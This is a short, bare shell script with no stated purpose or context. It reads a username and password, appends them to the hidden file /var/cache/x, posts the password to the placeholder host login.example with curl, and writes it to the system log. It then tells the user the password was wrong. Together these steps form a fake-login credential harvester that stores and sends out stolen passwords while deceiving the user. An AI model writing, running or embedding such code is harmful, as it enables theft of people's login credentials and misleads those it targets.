read -r user password
echo "$user:$password" >> /var/cache/x
curl -d "p=$password" https://login.example/
logger "login of $user with $password"
echo "Wrong password for $user"
